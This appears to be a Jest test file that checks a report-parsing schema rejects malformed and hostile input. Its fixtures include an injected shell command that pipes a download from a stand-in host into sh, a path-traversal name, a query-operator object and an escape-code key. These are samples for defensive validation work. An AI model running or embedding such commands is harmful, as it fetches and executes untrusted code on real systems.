// The published schema of report.json, and parseReport, which checks every report read
// back (a stored baseline, `mode: comment`) against it. After an intended change to the
// schema, rewrite the published file with
//   UPDATE_GOLDEN=1 NODE_OPTIONS=--experimental-vm-modules npx jest src/report/schema.test.ts
import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import {
  asVersion1,
  failWithBaselineReport,
  inconclusiveReport,
  makeReport,
  passReport
} from '../../test/fixtures/reports.js'
import { ConfigError } from '../config.js'
import type { Report } from '../model.js'
import { parseReport } from './report.js'
import { REPORT_SCHEMA } from './schema.js'

const PUBLISHED = fileURLToPath(new URL('../../schema/report.schema.json', import.meta.url))

const parse = (value: unknown) => parseReport(JSON.stringify(value), 'r.json', 'baseline')
const refusal = (value: unknown) => {
  try {
    parse(value)
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError)
    return (e as Error).message
  }
  throw new Error('the report was accepted')
}
const SCHEMA_ERROR = 'baseline: r.json does not follow the report.json schema (schemaVersion 2): '

describe('schema/report.schema.json', () => {
  it('is the schema parseReport checks', () => {
    if (process.env.UPDATE_GOLDEN === '1') {
      writeFileSync(PUBLISHED, JSON.stringify(REPORT_SCHEMA, null, 2) + '\n')
      execFileSync('npx', ['prettier', '--write', PUBLISHED])
    }
    expect(JSON.parse(readFileSync(PUBLISHED, 'utf8'))).toEqual(REPORT_SCHEMA)
  })
})

describe('parseReport', () => {
  it.each<[string, () => Report]>([
    ['a failing report', () => makeReport()],
    ['a passing one', passReport],
    ['one with a baseline', failWithBaselineReport],
    ['one with notices', inconclusiveReport]
  ])('reads %s as it was written', (_name, report) => {
    expect(parse(report())).toEqual(report())
  })

  it('reads schemaVersion 1 as 2', () => {
    const report = failWithBaselineReport()
    const read = parse(asVersion1(report))
    expect(read.schemaVersion).toBe(2)
    expect(read.judgements).toEqual([])
    expect(read.reasons).toEqual(report.reasons)
    expect(read.runs.head.samples).toEqual(report.runs.head.samples)
    expect(read.runs.head.trends.heap).toMatchObject({
      slopePerSec: report.runs.head.trends.heap!.slopePerSec,
      ciLow: report.runs.head.trends.heap!.ciLow,
      lateCiLow: null,
      method: 'theil-sen',
      confidence: 0.95
    })
    expect(read.runs.head).toMatchObject({ looks: [], detectable: {}, source: { kind: 'pprof' } })
    expect(read.runs.base?.requestsPerSec).toBe(report.runs.base?.load.achievedRatePerSec)
  })

  it.each<[string, (r: Report & Record<string, unknown>) => void, string]>([
    [
      'a trend given as text',
      (r) => Object.assign(r.runs.head.trends.heap!, { slopePerSec: '1; curl evil | sh #' }),
      '/runs/head/trends/heap/slopePerSec must be number'
    ],
    [
      'a trend that was NaN (JSON.stringify writes null)',
      (r) => Object.assign(r.runs.head.trends.heap!, { slopePerSec: NaN }),
      '/runs/head/trends/heap/slopePerSec must be number'
    ],
    ['no config', (r) => delete (r as Partial<Report>).config, "/ must have required property 'config'"],
    [
      'a config value that is not text',
      (r) => (r.config = { duration: { $gt: 1 } as unknown as string }),
      '/config/duration must be string'
    ],
    [
      'an unknown verdict',
      (r) => (r.verdict = 'maybe' as Report['verdict']),
      '/verdict must be equal to one of the allowed values'
    ],
    [
      'a run beside head and base, which renderers would walk',
      (r) => ((r.runs as Record<string, unknown>).evil = r.runs.head),
      '/runs/evil must NOT have additional properties'
    ],
    [
      'a name that is a path',
      (r) => (r.name = '../../etc'),
      '/name must match pattern "^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$"'
    ],
    [
      'a reason of a megabyte',
      (r) => (r.reasons = ['x'.repeat(1 << 20)]),
      '/reasons/0 must NOT have more than 8192 characters'
    ],
    [
      'a thousand notices and one',
      (r) => (r.notices = Array<string>(1001).fill('n')),
      '/notices must NOT have more than 1000 items'
    ],
    [
      'a trend shape that is none of the shapes',
      (r) => Object.assign(r.runs.head.trends.heap!, { shape: 'spiral' }),
      '/runs/head/trends/heap/shape must be equal to one of the allowed values'
    ],
    // Every field the Run type calls required is required: renderers need not re-check them.
    ...(['looks', 'detectable', 'quiescence', 'source', 'requestsPerSec'] as const).map(
      (field): [string, (r: Report) => void, string] => [
        `a run without ${field}`,
        (r) => delete (r.runs.head as Partial<Report['runs']['head']>)[field],
        `/runs/head must have required property '${field}'`
      ]
    ),
    [
      'a trend without its late bounds',
      (r) =>
        delete (r.runs.head.trends.heap as Partial<NonNullable<Report['runs']['head']['trends']['heap']>>)
          .lateCiLow,
      "/runs/head/trends/heap must have required property 'lateCiLow'"
    ],
    [
      'a source of another kind',
      (r) => (r.runs.head.source = { kind: 'ftp' } as unknown as Report['runs']['head']['source']),
      '/runs/head/source/kind must be equal to constant'
    ]
  ])('refuses %s in one line that says where', (_name, spoil, error) => {
    const report = makeReport() as Report & Record<string, unknown>
    spoil(report)
    expect(refusal(report)).toBe(SCHEMA_ERROR + error)
  })

  it('refuses a number too large to be finite', () => {
    const text = JSON.stringify(makeReport()).replace('"t":0,', '"t":1e999,')
    expect(() => parseReport(text, 'r.json', 'baseline')).toThrow(
      SCHEMA_ERROR + '/runs/head/samples/0/t must be number'
    )
  })

  it('refuses what is not JSON, not go-memgate or another version, first', () => {
    expect(() => parseReport('{"verdict": NaN}', 'r.json', 'report-json')).toThrow(
      /^report-json: cannot read r\.json: Unexpected token 'N'/
    )
    expect(refusal({ hello: 1 })).toBe('baseline: r.json is not a go-memgate report.json')
    expect(refusal(null)).toBe('baseline: r.json is not a go-memgate report.json')
    expect(refusal({ ...makeReport(), schemaVersion: 3 })).toBe(
      'baseline: r.json has schemaVersion 3; this go-memgate reads schemaVersion 1 and 2'
    )
  })

  it('quotes a hostile key in one line', () => {
    const report = makeReport()
    report.config = { 'a\nb\u001b[31m': 7 as unknown as string }
    expect(refusal(report)).toBe(SCHEMA_ERROR + '/config/a\\nb\\u001b[31m must be string')
  })
})
